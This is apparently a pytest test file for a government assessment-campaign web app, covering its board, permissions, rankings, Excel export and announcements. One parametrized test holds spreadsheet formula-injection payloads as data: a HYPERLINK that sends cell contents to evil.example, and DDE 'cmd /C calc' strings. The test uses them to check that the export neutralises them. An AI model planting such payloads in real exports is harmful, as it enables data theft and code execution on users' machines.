"""The campaign board, results with chart and Excel export, the public announcement, launching campaigns."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from drive import Driver, unit_scores
from openpyxl import load_workbook
from web_fixtures import BEIJING, TIANJIN, add_web_user, login, post, set_passwords

from engine.people.accounts import Grant
from engine.store.models import Region

MASS = Path(__file__).parent / "bundles" / "mass-campaign"


@pytest.fixture
def drive(engine):
    drive = Driver(engine, "national-2013", [BEIJING, TIANJIN])
    add_web_user(engine, "gov-bj", Grant("assessed", region=BEIJING))
    set_passwords(engine)
    return drive


@pytest.fixture
def scored(drive):
    for region, total in ((BEIJING, "91.5"), (TIANJIN, "55")):
        drive.file_targets(region)
        drive.score(region, total)
    return drive


@pytest.mark.parametrize(("user", "status"), [("admin", 200), ("lead_agency", 200), ("assessment_group", 200),
                                              ("approver", 200), ("gov-bj", 403), ("member_unit", 403),
                                              ("recipient", 403)])
def test_who_reads_the_board(client, drive, user, status):
    login(client, user)
    assert client.get(f"/campaigns/{drive.campaign.id}").status_code == status


def test_the_board_shows_regions_by_steps(client, drive):
    drive.file_targets(BEIJING)
    login(client, "admin")
    page = client.get(f"/campaigns/{drive.campaign.id}").text
    beijing = page.split(f'data-region="{BEIJING}"')[1].split("</tr>")[0]
    assert re.search(r'class="cell done" data-step="Task_target_filing"', beijing)
    assert re.search(r'class="cell current" data-step="Task_self_evaluation"', beijing)
    tianjin = page.split(f'data-region="{TIANJIN}"')[1].split("</tr>")[0]
    assert re.search(r'class="cell current" data-step="Task_target_filing"', tianjin)
    assert 'id="completion">0%<' in page and 'id="overdue-total" class="">0<' in page
    assert "<h1>2025—2026年度 · 质量工作考核（国办发〔2013〕47号）</h1>" in page  # the title, not the key
    assert client.get("/campaigns/999").status_code == 404


def test_results_chart_ranking_and_excel(client, scored):
    login(client, "lead_agency")
    page = client.get(f"/campaigns/{scored.campaign.id}").text
    assert 'id="grade-chart"' in page
    ranking = page.split('id="ranking"')[1].split("</table>")[0]
    assert re.findall(r'<tr data-region="(\d+)"><td>(\d+)</td><td>[^<]+</td><td>([^<]+)</td><td>(\w)</td>',
                      ranking) == [(BEIJING, "1", "91.5", "A"), (TIANJIN, "2", "55", "D")]
    response = client.get(f"/campaigns/{scored.campaign.id}/results.xlsx")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert rows == [(1, BEIJING, "北京市", 91.5, "A", "否", "通报表扬", 100),  # the self-evaluation's total last
                    (2, TIANJIN, "天津市", 55, "D", "否", "书面整改", 100)]


def test_the_workbook_has_a_sheet_per_part_and_per_unit_with_self_beside_assessed(client, scored):
    """What an assessment office files: every indicator per region, self score beside assessed score, what each
    member unit gave and why, the veto items; the announcement's date once announced. A results recipient gets
    the ranking only (issue 12, item 10)."""
    scored.approve_and_announce()
    login(client, "lead_agency")
    book = load_workbook(io.BytesIO(client.get(f"/campaigns/{scored.campaign.id}/results.xlsx").data))
    scheme = scored.scheme
    parts = [f"{p['name']}（{p['points']}分）" for p in scheme["parts"]]
    units = [u["name"] for u in scheme["units"]]
    assert book.sheetnames == ["考核结果", *parts, *units, "否决项"]
    assert book["考核结果"]["A2"].value == "公告日期：2026-10-15"
    assert book["考核结果"]["B2"].value == "文号：国质量考核〔2026〕1号"  # beside the date
    targets = book[parts[0]]
    head = [c.value for c in targets[1]]
    first = next(i for i in scheme["indicators"] if i["part"] == scheme["parts"][0]["code"])
    assert head[3:5] == [f"{first['code']} {first['name']}（{first['points']}分）自评", f"{first['code']} 考核"]
    beijing = next(row for row in targets.iter_rows(min_row=2, values_only=True) if row[1] == BEIJING)
    assert beijing[3] == first["points"]  # the self-evaluation gave full points
    given = {r["indicator"]: r["score"] for r in unit_scores(scheme, "91.5")[first["unit"]]}
    assert beijing[4] == given[first["code"]]
    moa = book[next(u["name"] for u in scheme["units"] if u["code"] == "moa")]
    assert [c.value for c in moa[1]][3:5] == ["T2 主要农产品质量安全监测合格率（13分）", "评分依据"]
    assert next(r for r in moa.iter_rows(min_row=2, values_only=True) if r[1] == BEIJING)[4]  # its basis
    login(client, "recipient")
    assert load_workbook(io.BytesIO(client.get(f"/campaigns/{scored.campaign.id}/results.xlsx").data)).sheetnames \
        == ["考核结果"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_the_excel_export_writes_a_formula_looking_region_name_as_text(client, drive, engine, name):
    with engine.store.write() as session:  # named so before it reports: a result keeps the name it reported with
        session.get(Region, BEIJING).name = name
    for region, total in ((BEIJING, "91.5"), (TIANJIN, "55")):
        drive.file_targets(region)
        drive.score(region, total)
    login(client, "lead_agency")
    sheet = load_workbook(io.BytesIO(client.get(f"/campaigns/{drive.campaign.id}/results.xlsx").data)).active
    cell = next(row[2] for row in sheet.iter_rows(min_row=3) if row[1].value == BEIJING)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    assert sheet.cell(3, 4).data_type == "n" and not sheet.cell(3, 2).quotePrefix  # the rest stays as it was


def test_recipients_read_results_only_once_announced(client, scored):
    login(client, "recipient")
    assert client.get(f"/campaigns/{scored.campaign.id}/results").status_code == 403
    assert client.get(f"/campaigns/{scored.campaign.id}/results.xlsx").status_code == 403
    scored.approve_and_announce()
    page = client.get(f"/campaigns/{scored.campaign.id}/results")
    assert page.status_code == 200 and 'id="ranking"' in page.text
    assert client.get(f"/campaigns/{scored.campaign.id}").status_code == 403  # still not the board


def test_the_public_announcement_needs_no_sign_in_and_waits_for_the_notification(client, scored):
    url = f"/public/campaigns/{scored.campaign.id}"
    assert client.get(url).status_code == 404
    assert url not in client.get("/public").text
    scored.do("Task_compile_results")
    scored.do("Task_approve_results", {"approval": "approve", "comment": "同意"})
    assert client.get(url).status_code == 404  # approved, not yet announced
    scored.do("Task_notify_results")
    page = client.get(url)
    assert page.status_code == 200 and "考核结果通报" in page.text and 'id="ranking"' in page.text
    assert "results.xlsx" not in page.text and f"/public/campaigns/{scored.campaign.id}" in client.get("/public").text
    listed = client.get("/public").text.split('id="public-campaigns"')[1]
    assert "质量工作考核（国办发〔2013〕47号）" in listed and "national-2013" not in listed  # its title, not its key
    assert '<p class="document-number" id="document-number">国质量考核〔2026〕1号</p>' in page.text


def test_the_document_number_is_kept_with_the_results_as_announced(client, scored):
    """The 文号 typed at the announcement step heads the results page and the public page; a workbook and a
    print of the public page carry it (issue 12, item 10)."""
    scored.do("Task_compile_results")
    scored.do("Task_approve_results", {"approval": "approve", "comment": "同意"})
    [task] = scored.ready("Task_notify_results")
    login(client, "lead_agency")
    form = client.get(f"/tasks/{task.id}").text
    assert 'name="document_number"' in form and "文号" in form
    post(client, f"/tasks/{task.id}", {"action": "submit", "document_number": "国质量考核〔2025〕7号",
                                       "announced_on": "2025-10-15", "announcement": "现将考核结果通报如下。"})
    results = client.get(f"/campaigns/{scored.campaign.id}/results").text
    assert 'id="document-number">国质量考核〔2025〕7号</p>' in results and "公告日期：2025-10-15。" in results
    public = client.get(f"/public/campaigns/{scored.campaign.id}").text
    assert 'id="document-number">国质量考核〔2025〕7号</p>' in public
    book = load_workbook(io.BytesIO(client.get(f"/campaigns/{scored.campaign.id}/results.xlsx").data))
    assert [c.value for c in book["考核结果"][2]][:2] == ["公告日期：2025-10-15", "文号：国质量考核〔2025〕7号"]


def test_the_lead_agency_starts_a_campaign(client, engine):
    set_passwords(engine)
    login(client, "lead_agency")
    page = client.get("/campaigns").text
    assert 'id="start-campaign"' in page
    # procedures and regions by their names; the keys only in the values sent back
    assert '<option value="ziyang-2016">资阳市质量工作考核（资府办发〔2016〕4号）</option>' in page
    assert '<optgroup label="资阳市质量工作考核（资府办发〔2016〕4号）"><option value="512002">雁江区</option>' in page
    assert "national-2013 ·" not in page
    response = post(client, "/campaigns", {"variant": "ziyang-2016", "year": "2026", "regions": ["512002"]})
    assert response.status_code == 302
    assert [c.label for c in _campaigns(engine)] == ["2026年度"]
    assert post(client, "/campaigns", {"variant": "ziyang-2016", "year": "x"}).status_code == 400


def test_an_assessed_government_cannot_start_a_campaign(client, engine, drive):
    login(client, "gov-bj")
    assert 'id="start-campaign"' not in client.get("/campaigns").text
    assert post(client, "/campaigns", {"variant": "national-2013", "year": "2026"}).status_code == 403
    assert len(_campaigns(engine)) == 1


def _campaigns(engine):
    from sqlalchemy import select

    from engine.store.models import Campaign

    with engine.store.read() as session:
        return list(session.scalars(select(Campaign)))


def test_the_board_of_a_large_campaign_is_paged_with_figures_for_all_regions(client, engine):
    engine.deploy(MASS)
    codes = [str(700001 + n) for n in range(250)]
    with engine.store.write() as session:
        session.add_all(Region(code=c, name=f"测试地区{c}", region_set="mass-campaign") for c in codes)
    campaign = engine.start_campaign("mass-campaign", 2025)
    set_passwords(engine)
    login(client, "lead_agency")
    first = client.get(f"/campaigns/{campaign.id}").text
    assert first.count('<tr data-region="') == 100 and f'data-region="{codes[0]}"' in first
    assert 'id="region-count">250<' in first and "第 1 页，共 3 页" in first
    # every region has reported, none has finished (they wait for the announcement): both figures say so
    assert 'id="reported">250/250<' in first and 'id="completion">0%<' in first
    # every region has reported: the grade chart counts all 250, the ranking is one link away
    assert 'id="results-link"' in first and 'id="ranking"' not in first
    chart = first.split('id="grade-chart"')[1].split("</svg>")[0]
    assert sum(int(n) for n in re.findall(r'text-anchor="middle">(\d+)</text>', chart)) == 250
    last = client.get(f"/campaigns/{campaign.id}?page=3").text
    assert last.count('<tr data-region="') == 50 and f'data-region="{codes[-1]}"' in last
    assert 'data-region="' + codes[-1] in client.get(f"/campaigns/{campaign.id}?page=99").text  # past the end
    assert client.get(f"/campaigns/{campaign.id}?page={2**70}").status_code == 400  # no page number that large
    ranking = client.get(f"/campaigns/{campaign.id}/results").text.split('id="ranking"')[1]
    assert ranking.count("<tr data-region=") == 250


def test_the_board_and_the_export_use_the_variants_scale_and_a_rank_only_board_has_no_grades(client, engine):
    fixtures = Path(__file__).parent / "bundles"
    for name in ("thousand-points", "rank-only"):
        engine.load_regions(engine.check(fixtures / name))
        engine.deploy(fixtures / name)
    set_passwords(engine)
    login(client, "lead_agency")
    for variant, region, total in (("thousand-points", "991001", "905.5"), ("rank-only", "993001", "89.99")):
        drive = Driver(engine, variant, [region])
        drive.file_targets(region, opinions=False)
        drive.score(region, total, onsite=False)
        page = client.get(f"/campaigns/{drive.campaign.id}", headers={"Accept-Language": "zh"}).text
        scale = "1000" if variant == "thousand-points" else "100"
        assert f"得分（满分 {scale}）" in page
        assert ('id="grade-chart"' in page) is (variant == "thousand-points")
        row = page.split('id="ranking"')[1].split(f'<tr data-region="{region}">')[1].split("</tr>")[0]
        assert row.count("<td>") == (5 if variant == "thousand-points" else 4) and f"<td>{total}</td>" in row
        sheet = load_workbook(io.BytesIO(client.get(f"/campaigns/{drive.campaign.id}/results.xlsx").data)).active
        assert sheet["D2"].value == f"得分（满分 {scale}）"
        assert sheet["D3"].value == float(total) and sheet["E3"].value == ("优秀" if scale == "1000" else None)


def test_a_campaign_step_shows_the_results_it_decides_on(client, scored):
    """汇总 and 审定 show the ranking with grades and consequences above their form; a region's step does not."""
    login(client, "lead_agency")
    [compile_task] = scored.ready("Task_compile_results")
    page = client.get(f"/tasks/{compile_task.id}").text
    section = page.split('id="decision-results"')[1].split("</section>")[0]
    assert 'id="ranking"' in section and "北京市" in section and "通报表扬" in section and "书面整改" in section
    scored.do("Task_compile_results")
    login(client, "approver")
    [approve] = scored.ready("Task_approve_results")
    assert 'id="decision-results"' in client.get(f"/tasks/{approve.id}").text
    scored.do("Task_approve_results", {"approval": "approve", "comment": "同意"})
    scored.do("Task_notify_results")
    [report] = scored.ready("Task_rectification_report", TIANJIN)
    login(client, "lead_agency")
    assert 'id="decision-results"' not in client.get(f"/tasks/{report.id}").text


def test_starting_a_campaign_is_guarded(client, engine):
    """Not a second campaign of a procedure and year, not another procedure's regions, and not, unwittingly,
    with every deadline already passed: moved by an offset, or started as they are on purpose."""
    from datetime import datetime

    from engine.clock import CHINA

    set_passwords(engine)
    login(client, "lead_agency")
    late = {"variant": "ziyang-2016", "year": "2025", "regions": ["512002"]}  # 目标备案 was due 31 March
    refused = post(client, "/campaigns", late)
    assert refused.status_code == 400 and "以下期限已过" in refused.text and "目标备案：2025年3月31日" in refused.text
    assert _campaigns(engine) == [] and 'id="accept-passed"' in refused.text
    assert '<option value="512002" selected>' in refused.text  # what was chosen is kept
    assert post(client, "/campaigns", dict(late, shift_days="120")).status_code == 302
    [campaign] = _campaigns(engine)
    [filing] = engine.tasks(campaign_id=campaign.id)
    assert filing.due_at == datetime(2025, 7, 30, tzinfo=CHINA)  # 31 March + 120 days, to the end of that day
    again = post(client, "/campaigns", dict(late, accept_passed="1"))
    assert again.status_code == 400 and "2025年度的考核已经启动" in again.text
    foreign = post(client, "/campaigns", {"variant": "ziyang-2016", "year": "2027", "regions": ["512002", BEIJING]})
    assert foreign.status_code == 400
    assert "北京市 不是《资阳市质量工作考核（资府办发〔2016〕4号）》的考核对象" in foreign.text
    assert len(_campaigns(engine)) == 1
    as_they_are = post(client, "/campaigns", {"variant": "ziyang-2016", "year": "2024", "accept_passed": "1"})
    assert as_they_are.status_code == 302 and len(_campaigns(engine)) == 2


def test_the_lead_agency_urges_one_overdue_task_or_all_of_them(client, engine, drive, clock):
    """督办 from the board: a notice to whoever holds the task, recorded in the audit log; refused to a region."""
    from sqlalchemy import select

    from engine.store.models import AuditEntry, Notification, User

    clock.advance(days=40)  # 30 June has passed: both filings are overdue
    login(client, "lead_agency")
    page = client.get(f"/campaigns/{drive.campaign.id}").text
    assert 'id="urge-overdue"' in page and page.count('class="inline urge"') == 2
    [bj] = drive.ready("Task_target_filing", BEIJING)
    assert post(client, f"/campaigns/{drive.campaign.id}/urge", {"task": bj.id}).status_code == 302

    def notices(username):
        with engine.store.read() as session:
            return list(session.scalars(select(Notification).join(User, User.id == Notification.user_id)
                                        .where(User.username == username, Notification.kind == "urge")))

    [notice] = notices("gov-bj")
    assert "北京市" in notice.title and notice.link == f"/tasks/{bj.id}"
    assert post(client, f"/campaigns/{drive.campaign.id}/urge", {"overdue": "1"}).status_code == 302
    assert len(notices("gov-bj")) == 2
    with engine.store.read() as session:
        urged = list(session.scalars(select(AuditEntry).where(AuditEntry.action == "urge")))
    assert len(urged) == 3 and {e.actor for e in urged} == {"lead_agency"}
    login(client, "gov-bj")
    assert post(client, f"/campaigns/{drive.campaign.id}/urge", {"overdue": "1"}).status_code == 403


def test_renaming_a_region_does_not_rewrite_announced_results(client, engine, scored):
    from engine.store.models import Region

    scored.approve_and_announce()
    with engine.store.write() as session:
        session.get(Region, BEIJING).name = "北京市（改名）"
    login(client, "lead_agency")
    ranking = client.get(f"/campaigns/{scored.campaign.id}/results").text.split('id="ranking"')[1]
    assert "<td>北京市</td>" in ranking and "改名" not in ranking
    public = client.get(f"/public/campaigns/{scored.campaign.id}").text
    assert "<td>北京市</td>" in public and "改名" not in public


def test_the_lead_agency_suspends_resumes_and_cancels_a_campaign_with_a_reason(client, engine, drive):
    """From the board: the reason is shown there and kept in the audit log; a region's official who opens a task
    of the suspended campaign is told why it cannot be done; a region may not suspend."""
    login(client, "lead_agency")
    board = client.get(f"/campaigns/{drive.campaign.id}").text
    assert 'id="campaign-state"' in board and 'value="suspend"' in board
    # No reason: said on the board, nothing changed
    page = post(client, f"/campaigns/{drive.campaign.id}/state", {"action": "suspend", "reason": ""},
                follow_redirects=True).text
    assert "请填写原因" in page and 'id="campaign-status"' not in page
    post(client, f"/campaigns/{drive.campaign.id}/state", {"action": "suspend", "reason": "细则修订中"})
    board = client.get(f"/campaigns/{drive.campaign.id}").text
    status = board.split('id="campaign-status"')[1].split("</div>")[0]
    assert "已暂停" in status and "细则修订中" in status and "lead_agency" in status
    assert 'value="resume"' in board
    assert "已暂停" in client.get("/campaigns").text.split('id="campaigns"')[1]

    [bj] = drive.ready("Task_target_filing", BEIJING)
    login(client, "gov-bj")
    assert 'id="suspended"' in client.get(f"/tasks/{bj.id}").text
    assert post(client, f"/campaigns/{drive.campaign.id}/state", {"action": "resume", "reason": "x"}).status_code == 403

    login(client, "lead_agency")
    post(client, f"/campaigns/{drive.campaign.id}/state", {"action": "resume", "reason": "细则已定"})
    assert 'id="campaign-status"' not in client.get(f"/campaigns/{drive.campaign.id}").text
    post(client, f"/campaigns/{drive.campaign.id}/state", {"action": "cancel", "reason": "本年度不再考核"})
    board = client.get(f"/campaigns/{drive.campaign.id}").text
    assert "已取消" in board.split('id="campaign-status"')[1].split("</div>")[0]
    assert 'id="campaign-state"' not in board  # nothing more to do with it
    login(client, "gov-bj")
    assert client.get(f"/tasks/{bj.id}").status_code == 404


def test_the_board_filters_regions_by_state_step_and_name(client, engine, drive, clock):
    """Only the overdue ones, only those at a step, a region by name; the figures stay the campaign's."""
    drive.file_targets(BEIJING)
    clock.advance(days=40)  # 30 June has passed: 天津's filing is overdue, 北京 is at self-evaluation
    login(client, "lead_agency")
    url = f"/campaigns/{drive.campaign.id}"

    def shown(**args) -> set[str]:
        page = client.get(url, query_string=args).text
        return set(re.findall(r'<tr data-region="(\d+)">', page.split('id="board"')[1].split("</table>")[0]))

    assert shown() == {BEIJING, TIANJIN}
    assert shown(state="overdue") == {TIANJIN}
    assert shown(step="Task_self_evaluation") == {BEIJING}
    assert shown(q="天津") == {TIANJIN}
    assert shown(state="finished") == set()
    page = client.get(url, query_string={"state": "overdue"}).text
    assert "2 个地区中的 1 个" in page and 'id="region-count">2<' in page  # the campaign's figure unchanged
    assert shown(state="nonsense") == {BEIJING, TIANJIN}  # an unknown filter is no filter
